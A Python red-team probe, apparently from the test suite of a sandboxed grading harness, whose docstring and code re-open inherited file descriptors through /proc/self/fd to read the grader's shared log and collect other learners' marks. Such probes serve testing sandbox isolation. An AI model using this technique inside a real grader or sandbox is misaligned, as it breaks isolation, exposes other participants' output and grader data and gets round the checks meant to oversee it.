"""Descriptors the kernel inherited from the zygote: re-open each of /proc/self/fd/* for reading
(a magic link re-opens the file itself, whatever mode it was opened in): the kernel's stdout and
stderr go to a log file of the grader that every kernel of the slot appends to (every attack
writes its mark on stderr). Graded after everyone else, so earlier kernels of the slot were others.

Got out: another learner's mark (their stderr) or any grader data readable through an inherited fd.
"""
# redteam: student=zzz_rt_inherited_fds
import os

own = _MARK.encode()
prefix = _MARK.rsplit("-", 1)[0].encode()
others = set()
for fd in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    try:
        if not __import__("stat").S_ISREG(os.stat(f"/proc/self/fd/{fd}").st_mode):
            print(fd, target, "not a regular file")  # our own pipes: reading them would block
            continue
        data = open(f"/proc/self/fd/{fd}", "rb").read(8 << 20)
    except OSError as exc:
        print(fd, target, "re-open:", exc.strerror)
        continue
    print(fd, target, "read", len(data), "bytes")
    import re
    for m in re.finditer(re.escape(prefix) + rb"-\w+", data):
        if m.group(0) != own:
            others.add(m.group(0).decode())
    _leak(data[-20000:], f"fd {fd} -> {target}")
print("other learners' marks:", sorted(others)[:20])
if others:
    _got_out(f"other learners' stderr readable through an inherited descriptor: {sorted(others)[:5]}")
